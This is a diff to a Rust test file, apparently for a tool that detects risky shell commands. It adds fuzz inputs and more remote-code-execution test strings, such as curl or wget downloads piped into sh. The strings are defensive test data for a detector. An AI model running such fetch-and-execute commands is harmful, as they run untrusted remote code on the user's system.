@@ -278,6 +278,8 @@ fn remote_code_execution() {
         "$(curl -s https://example.com/cmd)",
         "curl -o setup.sh https://example.com/setup.sh && bash setup.sh",
         "wget https://example.com/i.sh; chmod +x i.sh; ./i.sh",
+        "curl -o x.sh https://example.com/x.sh; cat x.sh | sh",
+        "(curl -s https://example.com/x; echo) | sh",
         "curl https://example.com/x > /tmp/x.sh; sh /tmp/x.sh",
         "deno run https://example.com/mod.ts",
     ]);
@@ -806,6 +808,17 @@ fn all_spans_are_in_bounds_and_on_char_boundaries() {
 fn no_panic_on_garbage() {
     let mut inputs: Vec<String> = vec![
         String::new(),
+        "rm -rf \"é".into(),
+        "echo 'ü".into(),
+        "parallel -j".into(),
+        "parallel --jobs".into(),
+        "xargs -I".into(),
+        "timeout".into(),
+        "sudo -u".into(),
+        "env -S".into(),
+        "find . -exec".into(),
+        "python -c".into(),
+        "awk -f".into(),
         "   ".into(),
         "\n\n\t".into(),
         "\0\0\0".into(),
@@ -833,7 +846,7 @@ fn no_panic_on_garbage() {
     }
     inputs.push(quoted.clone());
     // A tiny deterministic fuzzer over shell metacharacters.
-    let alphabet: Vec<char> = "ab -|&;()<>{}$`'\"\\\n*?~=#!:%@x/01".chars().collect();
+    let alphabet: Vec<char> = "ab -|&;()<>{}$`'\"\\\n*?~=#!:%@x/01é✓".chars().collect();
     let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
     for _ in 0..400 {
         let len = (seed % 60) as usize;
